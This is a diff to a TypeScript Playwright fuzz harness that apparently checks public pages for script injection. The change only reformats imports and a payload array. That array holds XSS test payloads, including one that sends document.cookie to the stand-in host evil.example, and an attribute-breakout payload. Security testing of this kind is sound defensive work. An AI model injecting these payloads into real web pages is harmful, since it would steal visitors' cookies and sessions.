@@ -1,7 +1,7 @@
 // The fuzz harness: the browser check of every public page the fuzz reached.
 import { type Page } from "@playwright/test";
-import { SLUGS,RAN,RUNS_SCRIPT } from "./values";
-import { type FuzzRequest,SELF_ORIGIN } from "./requests";
+import { SLUGS, RAN, RUNS_SCRIPT } from "./values";
+import { type FuzzRequest, SELF_ORIGIN } from "./requests";
 import { type SignerMail } from "./store";
 
 // ---------------------------------------------------------------------------------------------
@@ -18,7 +18,12 @@ export function publicPages(lang: string, signers: SignerMail[]): string[] {
 }
 
 /** Every script payload at once, and the alert() and fetch() ones; the short one fits a name. */
-export const SCRIPT_ALL = [...RUNS_SCRIPT, "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "</textarea><script>fetch('//evil.example/'+document.cookie)</script>"].join("");
+export const SCRIPT_ALL = [
+  ...RUNS_SCRIPT,
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(document.cookie)>",
+  "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
+].join("");
 export const SCRIPT_SHORT = `"><img src=x onerror=${RAN}=1>`;
 
 /** URLs whose answer may echo a part of them. */
